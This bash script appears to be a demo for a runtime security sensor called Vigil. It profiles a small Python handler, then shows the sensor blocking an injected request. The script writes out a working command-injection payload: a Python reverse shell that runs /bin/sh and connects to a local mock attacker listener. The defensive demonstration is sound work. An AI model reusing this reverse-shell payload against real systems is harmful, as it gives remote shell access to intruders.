#!/usr/bin/env bash
# Vigil demo: learn what a small Python function does, then run it under enforce mode and
# inject a reverse shell through its command-injection bug. The shell's connection is refused
# by the sensor and the attacker's listener receives nothing.
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
root="$(cd "$here/../.." && pwd)"
cd "$root"
cargo build --release -q -p vigil
vigil="$root/target/x86_64-unknown-linux-gnu/release/vigil"
work="$here/work"
rm -rf "$work"; mkdir -p "$work"
api_port=18080 attacker_port=14444
py=$(command -v /usr/bin/python3 || command -v python3)

# The function's legitimate dependency (an "inventory API") and the attacker's listener.
"$py" -m http.server "$api_port" --bind 127.0.0.1 --directory "$here" >/dev/null 2>&1 &
api=$!
"$py" - "$attacker_port" "$work/attacker.log" <<'PY' &
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(5)
log = open(sys.argv[2], "a")
while True:
    c, _ = s.accept(); log.write("connection\n"); log.flush()
    data = c.recv(4096); log.write(f"received {len(data)} bytes\n"); log.flush(); c.close()
PY
attacker=$!
trap 'kill $api $attacker 2>/dev/null || true' EXIT
sleep 0.5
: > "$work/attacker.log"

benign='{"host": "web-01"}'
payload="x; $py -c \"import socket,subprocess,os;s=socket.create_connection(('127.0.0.1',$attacker_port));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])\""
injected=$("$py" -c 'import json,sys; print(json.dumps({"host": sys.argv[1]}))' "$payload")

echo "== 1. learn: run the function on a normal request and record what it does"
"$vigil" learn --out "$work/policy.yaml" --events "$work/learn.jsonl" -- "$py" "$here/handler.py" "$benign"
echo
sed -n '/^process:/,$p' "$work/policy.yaml" | grep -v '^ *#' | grep -v '^$' | grep -v 'lib-dynload\|x86_64-linux-gnu' || true
echo "  (plus the shared libraries it loaded)"

echo
echo "== 2. enforce: the same request works, with no alert"
"$vigil" run --policy "$work/policy.yaml" --mode enforce --events "$work/benign.jsonl" -- "$py" "$here/handler.py" "$benign"
findings=$(grep -c '"class_uid":2004' "$work/benign.jsonl" || true)
echo "  findings: $findings"

echo
echo "== 3. enforce: the injected request tries to open a reverse shell to 127.0.0.1:$attacker_port"
"$vigil" run --policy "$work/policy.yaml" --mode enforce --events "$work/attack.jsonl" -- "$py" "$here/handler.py" "$injected" || true
echo
echo "  what the sensor reported:"
"$py" - "$work/attack.jsonl" <<'PY'
import json, sys
for line in open(sys.argv[1]):
    e = json.loads(line)
    if e["class_uid"] == 2004:
        print(f"  [{e['severity']}] {e['disposition']}: {e['finding_info']['title']} "
              f"(rule {e['finding_info']['uid']}, pid {e['actor']['process']['pid']})")
PY
sleep 0.3
echo
echo "  what the attacker's listener got: $(wc -l < "$work/attacker.log") line(s)"
cat "$work/attacker.log"
if [ -s "$work/attacker.log" ] || ! grep -q '"finding_info":{"uid":"network.connect"' "$work/attack.jsonl"; then
  echo "DEMO FAILED: the reverse shell was not stopped" >&2
  exit 1
fi
echo "  -> the reverse shell never connected. Events: $work/attack.jsonl"
